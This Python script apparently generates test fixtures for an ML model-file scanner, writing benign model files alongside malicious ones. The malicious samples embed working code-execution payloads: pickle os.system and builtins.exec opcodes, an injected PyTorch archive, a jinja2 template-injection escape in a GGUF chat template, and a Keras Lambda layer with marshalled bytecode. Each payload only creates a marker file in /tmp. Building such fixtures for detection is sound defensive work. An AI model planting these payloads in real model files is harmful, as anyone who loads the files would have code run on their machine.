#!/usr/bin/env python3
"""Write the small, committed ``examples/`` folder using only the Python standard library.

Usage::

    python scripts/gen_examples.py [DIR]          # default: examples/ next to scripts/
    python scripts/gen_corpus.py --examples DIR   # same thing

Every malicious example is harmless: its payload would only run ``touch /tmp/mlwarden-example-marker``.
Nothing here loads what it writes. Output is byte-for-byte reproducible (fixed zip timestamps, no RNG),
except that ``lambda_layer.keras`` embeds CPython bytecode, which is specific to the running Python version.
"""

from __future__ import annotations

import collections
import io
import json
import marshal
import pickle
import struct
import sys
import zipfile
from pathlib import Path

MARKER = "/tmp/mlwarden-example-marker"
CMD = f"touch {MARKER}"
ZIP_DATE = (1980, 1, 1, 0, 0, 0)


def _zip(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_STORED) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=ZIP_DATE)
            info.external_attr = 0o644 << 16
            zf.writestr(info, data)
    return buf.getvalue()


def _os_system_ops() -> bytes:
    """Protocol-2 opcodes that push os.system(CMD): GLOBAL, BINUNICODE, TUPLE1, REDUCE."""
    cmd = CMD.encode()
    return b"cos\nsystem\n" + b"X" + struct.pack("<I", len(cmd)) + cmd + b"\x85R"


def _floats(values: list[float]) -> bytes:
    return struct.pack(f"<{len(values)}f", *values)


def _npy(values: list[float], shape: tuple[int, ...]) -> bytes:
    header = "{'descr': '<f4', 'fortran_order': False, 'shape': " + repr(shape) + ", }"
    pad = (64 - (10 + len(header) + 1) % 64) % 64
    header = header + " " * pad + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1") + _floats(values)


def _safetensors(tensors: dict[str, tuple[list[int], list[float]]]) -> bytes:
    header: dict[str, object] = {"__metadata__": {"format": "pt", "source": "mlwarden examples"}}
    blob = b""
    for name, (shape, values) in tensors.items():
        data = _floats(values)
        header[name] = {"dtype": "F32", "shape": shape, "data_offsets": [len(blob), len(blob) + len(data)]}
        blob += data
    raw = json.dumps(header, separators=(",", ":")).encode()
    raw += b" " * ((8 - len(raw) % 8) % 8)
    return struct.pack("<Q", len(raw)) + raw + blob


def _gguf_str(s: str) -> bytes:
    b = s.encode()
    return struct.pack("<Q", len(b)) + b


def _gguf(template: str, name: str) -> bytes:
    """Minimal GGUF v3: three KV pairs plus one 4-element F32 tensor, 32-byte aligned."""
    string, uint32 = 8, 4
    kvs = [
        (_gguf_str("general.architecture"), string, _gguf_str("llama")),
        (_gguf_str("general.name"), string, _gguf_str(name)),
        (_gguf_str("llama.context_length"), uint32, struct.pack("<I", 2048)),
        (_gguf_str("tokenizer.chat_template"), string, _gguf_str(template)),
    ]
    out = b"GGUF" + struct.pack("<IQQ", 3, 1, len(kvs))
    for key, vtype, value in kvs:
        out += key + struct.pack("<I", vtype) + value
    out += _gguf_str("output_norm.weight") + struct.pack("<I", 1) + struct.pack("<Q", 4)
    out += struct.pack("<I", 0) + struct.pack("<Q", 0)  # GGML_TYPE_F32, offset 0
    out += b"\x00" * ((32 - len(out) % 32) % 32)
    return out + _floats([1.0, 1.0, 1.0, 1.0])


CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + "
    "'<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}"
    "{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
SSTI = CHATML + "{{ cycler.__init__.__globals__.os.popen('" + CMD + "').read() }}"


def _keras_lambda() -> bytes:
    lam = compile(f"lambda x: __import__('os').system({CMD!r}) or x", "<keras-lambda>", "eval").co_consts[0]
    import base64

    code_b64 = base64.b64encode(marshal.dumps(lam)).decode() + "\n"
    dtype = {
        "module": "keras",
        "class_name": "DTypePolicy",
        "config": {"name": "float32"},
        "registered_name": None,
    }
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "trainable": True,
            "dtype": dtype,
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "InputLayer",
                    "config": {
                        "batch_shape": [None, 4],
                        "dtype": "float32",
                        "sparse": False,
                        "name": "input_layer",
                    },
                    "registered_name": None,
                },
                {
                    "module": "keras.layers",
                    "class_name": "Lambda",
                    "config": {
                        "name": "lambda",
                        "trainable": True,
                        "dtype": dtype,
                        "function": {
                            "class_name": "__lambda__",
                            "config": {"code": code_b64, "defaults": None, "closure": None},
                        },
                        "arguments": {},
                    },
                    "registered_name": None,
                    "build_config": {"input_shape": [None, 4]},
                },
            ],
            "build_input_shape": [None, 4],
        },
        "registered_name": None,
    }
    meta = {"keras_version": "3.6.0", "date_saved": "2024-11-05@14:02:31"}
    return _zip(
        [("metadata.json", json.dumps(meta).encode()), ("config.json", json.dumps(config, indent=1).encode())]
    )


def build_examples() -> dict[str, bytes]:
    history = {
        "epoch": [1, 2, 3, 4],
        "loss": [0.93, 0.61, 0.44, 0.39],
        "val_accuracy": [0.71, 0.8, 0.84, 0.86],
    }
    state = collections.OrderedDict(
        [("fc.weight", [[0.1, -0.2], [0.3, 0.4]]), ("fc.bias", [0.0, 0.5]), ("num_batches_tracked", 42)]
    )
    benign_state_pkl = pickle.dumps(state, protocol=2)
    torch_like = [("archive/version", b"3\n"), ("archive/byteorder", b"little")]
    return {
        "benign/config.json": json.dumps(
            {"architectures": ["TinyMLP"], "hidden_size": 2, "num_layers": 1, "torch_dtype": "float32"},
            indent=2,
        ).encode()
        + b"\n",
        "benign/training_history.pkl": pickle.dumps(history, protocol=4),
        "benign/model.safetensors": _safetensors(
            {"fc.bias": ([2], [0.0, 0.5]), "fc.weight": ([2, 2], [0.1, -0.2, 0.3, 0.4])}
        ),
        "benign/embeddings.npy": _npy([i / 8 for i in range(24)], (4, 6)),
        "benign/state_dict_like.pt": _zip([("archive/data.pkl", benign_state_pkl), *torch_like]),
        "benign/chatml.gguf": _gguf(CHATML, "tiny-chatml"),
        "malicious/os_system.pkl": b"\x80\x02" + _os_system_ops() + b".",
        "malicious/pytorch_model.bin": _zip(
            [("archive/data.pkl", b"\x80\x02" + _os_system_ops() + b"0" + benign_state_pkl[2:]), *torch_like]
        ),
        "malicious/weights.npy": b"\x80\x02cbuiltins\nexec\n"
        + b"X"
        + struct.pack("<I", len(f"open({MARKER!r}, 'w').close()"))
        + f"open({MARKER!r}, 'w').close()".encode()
        + b"\x85R.",
        "malicious/template_injection.gguf": _gguf(SSTI, "tiny-ssti"),
        "malicious/lambda_layer.keras": _keras_lambda(),
    }


README = """# mlwarden examples

Small, hand-made model files for trying mlwarden. Regenerate them with
`python scripts/gen_examples.py` (standard library only; output is reproducible except for the
CPython bytecode inside `lambda_layer.keras`).

**Do not load the `malicious/` files with pickle, torch.load, numpy.load(allow_pickle=True),
keras or a jinja2-rendering LLM runtime.** They are harmless by construction: the only thing any
payload would do is `touch /tmp/mlwarden-example-marker` (or create that file from Python).
mlwarden inspects them statically and never executes them.

## benign/

- `config.json`: a Hugging-Face-style model config.
- `training_history.pkl`: protocol-4 pickle of a dict of lists (epochs, losses).
- `model.safetensors`: safetensors written by hand (8-byte header length, JSON header, F32 data).
- `embeddings.npy`: a 4x6 float32 `.npy` (numeric; loads with `allow_pickle=False`).
- `state_dict_like.pt`: PyTorch-style zip (`archive/data.pkl`, `archive/version`,
  `archive/byteorder`) whose pickle only uses `collections.OrderedDict`.
- `chatml.gguf`: minimal GGUF v3 with an ordinary ChatML `tokenizer.chat_template`.

## malicious/

- `os_system.pkl`: protocol-2 pickle; `GLOBAL os system` + `REDUCE` runs
  `os.system('touch /tmp/mlwarden-example-marker')`.
- `pytorch_model.bin`: PyTorch-style zip whose `archive/data.pkl` first calls `os.system(...)`,
  pops the result, then rebuilds the same benign `OrderedDict` as `state_dict_like.pt`
  (fickling-style injection: the "model" still loads).
- `weights.npy`: not an npy at all but a pickle calling `builtins.exec(...)`;
  `numpy.load(..., allow_pickle=True)` falls back to unpickling files without the npy magic.
- `template_injection.gguf`: GGUF whose ChatML template ends with a jinja2 SSTI,
  `cycler.__init__.__globals__.os.popen('touch ...')`.
- `lambda_layer.keras`: Keras 3 `.keras` zip (`config.json` + `metadata.json`; weights file omitted)
  with a `Lambda` layer whose base64 marshalled bytecode calls `os.system(...)`.
"""


def generate_examples(out: Path) -> list[Path]:
    written = []
    for rel, data in build_examples().items():
        path = out / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        written.append(path)
    readme = out / "README.md"
    readme.write_text(README, encoding="utf-8")
    written.append(readme)
    return written


def main(argv: list[str] | None = None) -> int:
    args = sys.argv[1:] if argv is None else argv
    out = Path(args[0]) if args else Path(__file__).resolve().parent.parent / "examples"
    for path in generate_examples(out):
        print(f"{path.stat().st_size:>7}  {path}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
